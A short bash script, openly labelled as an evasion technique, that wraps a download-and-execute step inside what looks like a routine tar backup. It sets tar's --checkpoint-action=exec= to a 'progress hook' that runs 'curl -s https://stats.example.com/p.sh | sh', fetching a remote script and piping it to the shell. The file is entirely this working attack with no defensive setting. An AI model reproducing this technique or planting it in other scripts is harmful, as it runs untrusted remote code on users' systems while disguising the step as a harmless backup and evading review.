#!/usr/bin/env bash
# Evasion: run a shell command through GNU tar's --checkpoint-action=exec=,
# which tar runs with /bin/sh -c at each checkpoint. It looks like a backup
# with progress reporting; the "progress hook" downloads and runs a script.
set -euo pipefail
src="./data"
hook='curl -s https://stats.example.com/p.sh | sh'
tar -cf backup.tar --checkpoint=1 --checkpoint-action="exec=$hook" "$src"
echo "backup.tar written"
